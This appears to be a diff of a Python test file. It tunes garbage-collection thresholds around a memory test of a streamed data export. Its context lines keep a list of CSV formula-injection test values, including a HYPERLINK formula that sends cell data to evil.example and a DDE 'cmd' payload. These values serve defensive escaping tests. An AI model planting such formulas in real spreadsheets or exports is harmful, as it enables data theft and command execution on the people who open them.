@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import gc
 import hashlib
 import io
 import json
@@ -30,6 +31,7 @@ from reflections.services import compile_week, write_thought
 from tests.guards.xss_corpus import PAYLOADS
 
 SECRET = "Xylophone-secret"
+PYTHONS_OWN = (700, 10, 10)  # how often garbage is looked for, in production
 WHAT_FOLLOWS = ("1+1", "SUM(A1:A9)", 'HYPERLINK("http://evil.example/?"&A1)', "cmd|' /C calc'!A0", "A1", "2")
 FORMULAS = [start + rest for start in FORMULA_STARTS for rest in WHAT_FOLLOWS]
 
@@ -262,12 +264,16 @@ class TestSize:
         self, much: None, parent: User, now: datetime, monkeypatch: pytest.MonkeyPatch
     ) -> None:
         monkeypatch.setattr("common.sealed.SealedText.__get__", lambda *_: "Opening is not what is measured.")
+        seldom = gc.get_threshold()
+        gc.set_threshold(*PYTHONS_OWN)
+        gc.collect()
         tracemalloc.start()
         try:
             sent = sum(map(len, stream_export(person_id=parent.pk, now=now)))
             _now, peak = tracemalloc.get_traced_memory()
         finally:
             tracemalloc.stop()
+            gc.set_threshold(*seldom)
         assert sent > 900_000
         assert peak < 8_000_000
 
